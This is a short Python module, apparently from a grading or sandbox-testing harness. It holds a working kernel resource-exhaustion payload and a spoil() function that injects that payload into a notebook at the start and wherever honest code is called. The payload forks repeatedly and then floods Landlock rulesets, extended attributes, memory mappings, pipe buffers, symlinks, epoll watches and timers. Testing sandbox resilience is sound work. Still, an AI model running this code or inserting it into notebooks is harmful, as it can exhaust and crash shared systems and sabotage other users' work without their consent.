"""Let the kernel hold memory: areas, rules, attributes, pipes, timers, long names."""

from assignments.hostile import first, replaced

ATTACK = """
import ctypes
import fcntl
import mmap
import os
import select

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p

def in_rules(kept):
    handled = (ctypes.c_uint64 * 2)(0, 3)
    rules = LIBC.syscall(444, handled, 16, 0)
    if rules < 0:
        raise OSError
    kept.append(rules)
    for port in range(65_536):
        LIBC.syscall(445, rules, 2, (ctypes.c_uint64 * 2)(1, port), 0)

def in_attributes(kept):
    for number in range(100):
        os.setxattr("/dev/shm/held", f"user.{len(kept)}-{number}", bytes(60_000))
    kept.append(None)

def in_areas(kept):
    for number in range(1000):
        protection = 1 + number % 2 * 2
        LIBC.mmap(None, 4096, protection, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)

def in_pipes(kept):
    ends = os.pipe()
    kept.append(ends)
    fcntl.fcntl(ends[1], 1031, 1 << 20)
    os.set_blocking(ends[1], False)
    os.write(ends[1], bytes(1 << 20))

def in_links(kept):
    for number in range(100):
        os.symlink("x" * 4000, f"/tmp/{os.getpid()}-{len(kept)}-{number}".ljust(200))
    kept.append(None)

def in_watches(kept):
    watch = select.epoll()
    kept.append(watch)
    for number in range(128):
        try:
            watch.register(number)
        except OSError:
            pass

def in_timers(kept):
    for _ in range(1000):
        LIBC.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))

def attack(*arguments, **options):
    open("/dev/shm/held", "w").close()
    for _ in range(4):
        os.fork()
    kept = []
    for road in (in_rules, in_attributes, in_areas, in_pipes, in_links, in_watches,
                 in_timers):
        try:
            for _ in range(60):
                road(kept)
        except OSError:
            pass
"""


def spoil(notebook, honest):
    """Fill it before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
